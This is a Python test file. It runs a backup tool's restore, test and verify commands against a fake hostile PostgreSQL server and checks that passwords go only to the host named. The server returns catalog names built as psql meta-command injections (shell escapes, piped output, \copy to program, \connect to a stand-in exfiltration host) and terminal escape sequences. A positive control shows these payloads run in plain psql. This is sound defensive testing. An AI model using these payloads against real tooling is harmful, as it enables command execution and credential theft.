"""A hostile PostgreSQL server as the restore target: the real ``sbbackup`` command line restores a
real backup into tests/helpers/fakepg.py on 127.0.0.2, whose catalog answers are names built to
become psql meta-commands (``\\!``, ``\\o |``, ``\\copy ... program``, ``\\i``, ``\\e``,
``\\connect`` ...), to break line parsing (newline, ``\\x1f``, NUL, sbbackup's own end marker),
or to confuse a terminal. Nothing may run: no canary file appears, no other server is contacted;
sbbackup ends, in time, with a documented exit code and one line per error, no traceback.

And a password goes only where it was named: not the source's URL password, not ``PGPASSWORD``,
not a ``~/.pgpass`` entry for another host, to a target URL that names none.
"""

from __future__ import annotations

import os
import re
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import SB, Result
from helpers.fakepg import (
    BOOL,
    FLOAT8,
    INT2,
    INT4,
    INT8,
    NUMERIC,
    OID,
    Column,
    FakePG,
    Query,
    Rows,
    guess_type,
    parse_select,
    subquery,
)
from helpers.pgcluster import PASSWORD, Cluster

from sbbackup.errors import ExitCode

TIMEOUT = 60  # seconds: a hang is a failure (sbbackup waiting forever on psql's output)
# Any documented failure but 1 ("unexpected error", a traceback) and 130 (nobody interrupted).
DOCUMENTED_FAILURES = {int(c) for c in ExitCode} - {0, 1, 130}
NUMERIC_TYPES = {INT2, INT4, INT8, OID, NUMERIC, FLOAT8}
NUMERIC_HINTS = ("count(", "_size(", "system_identifier", "reltuples", "n_live_tup", "oid")
EXFIL_HOST = "127.0.0.3"
SOURCE_ROWS = ("rex", "tabby", "Ada", "Grace")


@dataclass
class Hostile:
    """A hostile server, a second server nobody should contact, and where canaries would land."""

    server: FakePG
    exfil: FakePG
    canaries: Path
    served: list[str]  # every query answered with crafted names
    env: dict[str, str]  # for the sbbackup run: editors and pagers that would leave a canary

    def target(self, dbname: str = "victim", password: str | None = None) -> str:
        return self.server.url(dbname, password=password)

    def assert_nothing_ran(self) -> None:
        assert sorted(p.name for p in self.canaries.iterdir()) == [], "a crafted name ran"
        assert self.exfil.sessions == [], "a crafted \\connect reached another server"
        # Validation did list the restored tables: the crafted names reached sbbackup.
        assert any(LISTS_TABLES_RE.search(q) for q in self.served), "no table listing asked"


def crafted_names(canaries: Path, include: Path, exfil: FakePG) -> list[str]:
    """Catalog names that become psql meta-commands, break line or field parsing, or hit the
    terminal. Each would-be command leaves its own canary file."""

    def c(tag: str) -> str:
        return str(canaries / tag)

    return [
        f"x'; \\! touch {c('quote-bang')}; --",
        f'"\n\\! touch {c("newline-bang")}\n',
        f"\\! touch {c('bang')}",
        f"public.a\n\\! touch {c('line-bang')}",
        f"a\x1fb\x1f\\! touch {c('unit-separator-bang')}",
        f"semi;colon; \\! touch {c('semicolon-bang')}",
        f"back\\\\slash\\ \\! touch {c('backslash-bang')}",
        "per%cent %s %I %L %% %(x)s",
        f"\\o |touch {c('o-pipe')}",
        f"\\g |touch {c('g-pipe')}",
        f"\\w |touch {c('w-pipe')}",
        f"\\o {c('o-file')}",
        f"\\w {c('w-file')}",
        f"\\copy (select 1) to program 'touch {c('copy-program')}'",
        f"\\copy (select 1) to '{c('copy-file')}'",
        f"\\i {include}",
        f"\\ir {include}",
        "\\e",
        f"\\s {c('history')}",
        f"\\lo_export 1 {c('lo-export')}",
        f"\\connect exfil postgres {exfil.host} {exfil.port}",
        ":'x' :\"y\" :DBNAME",
        "__sbbackup_end__",
        "\\.",
        ") FROM stdin;",
        "\x1b]0;pwned\x07\x1b[2J",
        f"nul\x00\\! touch {c('nul-bang')}",
        "",
        "ŝ" * 31 + "a",  # 63 bytes of UTF-8: the longest name PostgreSQL keeps
        "open /* comment",  # psql would wait for the */ forever
        "open $$ dollar quote",
    ]


def is_numeric(column: Column) -> bool:
    inner = subquery(column.expr)
    expr = (inner or column.expr).lower()
    return guess_type(column.expr) in NUMERIC_TYPES or any(h in expr for h in NUMERIC_HINTS)


def number(column: Column) -> int:
    """A literal's own value (``SELECT 0::int, count(*)`` keeps its index), else a count."""
    head = column.expr.split("::")[0].strip()
    return int(head) if head.isdigit() else 7


# A query that reads names out of the catalog (what validation and drill cleanup ask).
CATALOG_RE = re.compile(
    r"\b(pg_(class|namespace|database|tables|views|matviews|sequences|proc|type|trigger"
    r"|constraint|indexes|index|attribute|roles|authid|depend|extension|largeobject_metadata"
    r"|stat_\w+)|information_schema\.\w+|nspname|relname|datname)\b|\bformat\s*\(|quote_ident"
    r"|::\s*regclass",
    re.I,
)
LISTS_TABLES_RE = re.compile(r"\b(pg_class|pg_tables|information_schema\.tables)\b", re.I)


def hostile_responder(names: list[str], served: list[str]) -> Callable[[Query], Rows | None]:
    """Crafted names in every text column of every catalog query (one row per name), numbers
    in numeric columns, false for booleans; an existence probe (``SELECT 1 FROM ... WHERE``)
    finds nothing, so that sbbackup creates, loads and validates. Anything else (commands,
    ``set_config``) gets the default answer."""

    def respond(query: Query) -> Rows | None:
        select = parse_select(query.text)
        if select is None:
            return None
        if query.upper.split()[:2] == ["SHOW", "SERVER_VERSION_NUM"]:
            return Rows(["server_version_num"], [["150018"]])
        cols = select.columns
        kinds = [
            "bool" if guess_type(c.expr) == BOOL else "num" if is_numeric(c) else "text"
            for c in cols
        ]
        types = [BOOL if k == "bool" else INT8 if k == "num" else 25 for k in kinds]
        if "text" not in kinds:
            if select.has_from and all(c.expr.strip().isdigit() for c in cols):
                return Rows([c.name for c in cols], [], types)  # "no such database"
            row = [_value(k, c, "") for k, c in zip(kinds, cols, strict=True)]
            return Rows([c.name for c in cols], [row], types)
        if not CATALOG_RE.search(query.text):
            return None
        if not query.describing:
            served.append(query.text)
        rows = [
            [
                _value(k, c, names[(i + j) % len(names)])
                for j, (k, c) in enumerate(zip(kinds, cols, strict=True))
            ]
            for i in range(len(names))
        ]
        return Rows([c.name for c in cols], rows, types)

    return respond


def _value(kind: str, column: Column, name: str) -> object:
    if kind == "bool":
        return False
    if kind == "num":
        return number(column)
    return name


@pytest.fixture
def source(pg: Cluster, fresh_db: str) -> str:
    """A small real database: two tables, a few rows."""
    pg.psql(
        "CREATE TABLE public.pets (id int PRIMARY KEY, name text);"
        "INSERT INTO public.pets VALUES (1, 'rex'), (2, 'tabby');"
        "CREATE TABLE public.owners (id int PRIMARY KEY, name text, pet int REFERENCES pets);"
        "INSERT INTO public.owners VALUES (1, 'Ada', 1), (2, 'Grace', 2), (3, 'Alan', NULL)",
        db=fresh_db,
    )
    return fresh_db


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[Hostile]:
    canaries = tmp_path / "canaries"
    canaries.mkdir()
    include = tmp_path / "include.sql"
    include.write_text(f"\\! touch {canaries / 'include'}\n")
    served: list[str] = []
    touch = f"touch {canaries / 'editor'}"
    env = {"PSQL_EDITOR": touch, "EDITOR": touch, "VISUAL": touch}
    env.update(PAGER=f"touch {canaries / 'pager'}", PSQL_PAGER=f"touch {canaries / 'pager'}")
    with FakePG(auth="cleartext", host=EXFIL_HOST) as exfil:
        names = crafted_names(canaries, include, exfil)
        with FakePG(hostile_responder(names, served)) as server:
            yield Hostile(server, exfil, canaries, served, env)


def make_backup(sb: SB, pg: Cluster, db: str, fmt: str = "plain") -> str:
    record = sb.ok("create", "--format", fmt, "--json", env={"DATABASE_URL": pg.url(db)}).json()
    assert isinstance(record, dict) and record["contents"]["tables"] == {
        "public.owners": 3,
        "public.pets": 2,
    }
    return str(record["id"])


def run(sb: SB, *args: str, env: dict[str, str]) -> Result | None:
    """The run's result, or None when it hung (checked after the canaries)."""
    try:
        return sb(*args, env=env, timeout=TIMEOUT)
    except subprocess.TimeoutExpired:
        return None


def assert_clean_failure(res: Result | None) -> None:
    """It ended in time, with a documented exit code; on stderr one line per error and no
    traceback; no terminal control sequence from the server anywhere."""
    assert res is not None, f"sbbackup hung for {TIMEOUT}s against the fake server"
    assert res.code in DOCUMENTED_FAILURES, f"exit {res.code}:\n{res.err}"
    assert "Traceback" not in res.err and "please report" not in res.err, res.err
    lines = res.err.splitlines()
    assert lines and all(ln.startswith("sbbackup: error: ") for ln in lines), res.err
    assert "\x1b" not in res.err + res.out and "\x07" not in res.err + res.out


# --- nothing runs --------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["plain", "custom"])
def test_restore_into_a_hostile_server_runs_nothing(
    pg: Cluster, source: str, sb: SB, hostile: Hostile, fmt: str
) -> None:
    backup = make_backup(sb, pg, source, fmt)
    env = {**hostile.env, "DATABASE_URL": pg.url(source)}
    res = run(sb, "restore", backup, "--target-url", hostile.target(), "--create-target", env=env)
    hostile.assert_nothing_ran()
    assert_clean_failure(res)
    # The dump itself reached the server (and validation listed tables: assert_nothing_ran).
    data = b"".join(b"".join(s.copy_data) for s in hostile.server.sessions)
    assert all(name.encode() in data for name in SOURCE_ROWS)


@pytest.mark.parametrize("command", ["test", "verify"])
def test_drill_on_a_hostile_scratch_server_runs_nothing(
    pg: Cluster, source: str, sb: SB, hostile: Hostile, command: str
) -> None:
    env = {**hostile.env, "DATABASE_URL": pg.url(source)}
    server = hostile.target("postgres")
    if command == "test":
        res = run(sb, "test", "--target-url", server, env=env)
    else:
        backup = make_backup(sb, pg, source)
        res = run(sb, "verify", "--deep", "--restore", backup, "--target-url", server, env=env)
    hostile.assert_nothing_ran()
    assert_clean_failure(res)


# --- passwords go only where they were named -------------------------------------------------


def write_pgpass(home: Path, password: str) -> None:
    """A ~/.pgpass that holds a password for the real cluster's host only."""
    home.mkdir(parents=True, exist_ok=True)
    pgpass = home / ".pgpass"
    pgpass.write_text(f"127.0.0.1:*:*:*:{password}\nlocalhost:*:*:*:{password}\n")
    pgpass.chmod(0o600)


def test_a_target_url_without_password_gets_none(pg: Cluster, source: str, sb: SB) -> None:
    backup = make_backup(sb, pg, source)
    write_pgpass(Path(sb.env["HOME"]), "pgpass-for-127.0.0.1")
    with FakePG(auth="cleartext") as srv:
        env = {"DATABASE_URL": pg.url(source)}  # the source's password is in its URL
        res = run(
            sb, "restore", backup, "--target-url", srv.url("victim"), "--create-target", env=env
        )
        sessions = srv.wait_closed()
    assert sessions, "sbbackup never connected to the target: the test proved nothing"
    assert [s.password for s in sessions] == [None] * len(sessions)
    assert_clean_failure(res)


def test_a_target_url_password_is_the_only_one_sent(pg: Cluster, source: str, sb: SB) -> None:
    backup = make_backup(sb, pg, source)
    write_pgpass(Path(sb.env["HOME"]), "pgpass-for-127.0.0.1")
    secret = "t@rget:pw/é"
    with FakePG(auth="cleartext", password=secret) as srv:
        env = {"DATABASE_URL": pg.url(source)}
        target = srv.url("victim", password=secret)
        res = run(sb, "restore", backup, "--target-url", target, "--create-target", env=env)
        sessions = srv.wait_closed()
    assert sessions and srv.passwords() == [secret] * len(sessions)
    assert all(s.authenticated for s in sessions)
    assert PASSWORD not in srv.passwords()
    assert_clean_failure(res)  # an empty fake cluster: validation finds no tables (13)
    assert secret not in res.out + res.err


@pytest.mark.parametrize("command", ["restore", "test"])
def test_pgpassword_for_the_source_is_not_sent_to_another_host(
    pg: Cluster, source: str, sb: SB, command: str
) -> None:
    env = {"DATABASE_URL": pg.url(source, password=False), "PGPASSWORD": PASSWORD}
    with FakePG(auth="cleartext") as srv:
        if command == "restore":
            backup = sb.ok("create", "--json", env=env).json()["id"]  # type: ignore[index]
            res = run(
                sb,
                "restore",
                str(backup),
                "--target-url",
                srv.url("victim"),
                "--create-target",
                env=env,
            )
        else:
            res = run(sb, "test", "--target-url", srv.url("postgres"), env=env)
        sessions = srv.wait_closed()
    assert sessions, "sbbackup never connected to the target: the test proved nothing"
    assert srv.passwords() == [], f"the source's PGPASSWORD reached {srv.host}"
    assert_clean_failure(res)


def test_the_canaries_fire_when_psql_reads_the_names(hostile: Hostile) -> None:
    """The positive control: fed to psql as SQL text, the crafted names do run commands, write
    files and reach the other server. So "no canary" above means nothing ran, not a dud."""
    server = hostile.server
    listing = subprocess.run(
        ["psql", "-X", "-At", "-d", server.conninfo(), "-c", "SELECT relname FROM pg_class"],
        env={**os.environ, **hostile.env},
        capture_output=True,
        text=True,
        timeout=TIMEOUT,
    ).stdout
    for line in listing.splitlines():  # one psql each: an open quote would swallow the rest
        subprocess.run(
            ["psql", "-X", "-q", "-d", server.conninfo()],
            input=f"SELECT count(*) FROM {line};\n",
            env={**os.environ, **hostile.env, "PGPASSWORD": "leaked"},
            capture_output=True,
            text=True,
            timeout=TIMEOUT,
        )
    fired = {p.name for p in hostile.canaries.iterdir()}
    assert fired == {
        "bang",
        "copy-file",
        "copy-program",
        "g-pipe",
        "include",
        "line-bang",
        "newline-bang",
        "o-file",
        "o-pipe",
        "semicolon-bang",
        "unit-separator-bang",
        "w-file",
        "w-pipe",
    }
    assert [s.password for s in hostile.exfil.wait_closed()] == ["leaked"]
